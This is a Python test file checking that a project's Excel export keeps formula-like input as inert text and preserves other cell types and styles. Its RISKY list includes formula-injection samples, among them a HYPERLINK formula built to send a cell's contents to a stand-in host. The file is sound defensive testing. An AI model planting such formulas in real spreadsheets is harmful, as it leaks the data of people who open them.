"""Every cell tochuc writes keeps text as text: nothing typed into a record becomes a live formula."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Font

from tochuc.core.documents.excel import append, cell

RISKY = ["=1+1", '=HYPERLINK("http://x?d="&A2,"y")', "+1", "-2", "@x", "\tA", "\rB"]


def _reread(book: Workbook) -> list[list[tuple[object, str]]]:
    out = io.BytesIO()
    book.save(out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).worksheets[-1]
    return [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("write_only", [True, False])
def test_text_that_looks_like_a_formula_comes_back_as_the_same_text(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("Danh sách")
    append(sheet, RISKY)
    ((*cells,),) = _reread(book)
    assert cells == [(value, "s") for value in RISKY]


def test_other_values_keep_their_type_and_style():
    book = Workbook(write_only=True)
    sheet = book.create_sheet("Danh sách")
    append(sheet, ["Nguyễn Văn An", 42, 1.5, cell(sheet, dt.date(1980, 5, 1), number_format="dd/mm/yyyy")])
    append(sheet, ["Tiêu đề"], font=Font(bold=True))
    out = io.BytesIO()
    book.save(out)
    reread = load_workbook(io.BytesIO(out.getvalue())).worksheets[-1]
    first = list(reread[1])
    assert [(c.value, c.data_type) for c in first[:3]] == [("Nguyễn Văn An", "s"), (42, "n"), (1.5, "n")]
    assert first[3].value == dt.datetime(1980, 5, 1) and first[3].number_format == "dd/mm/yyyy"
    assert reread["A2"].font.bold
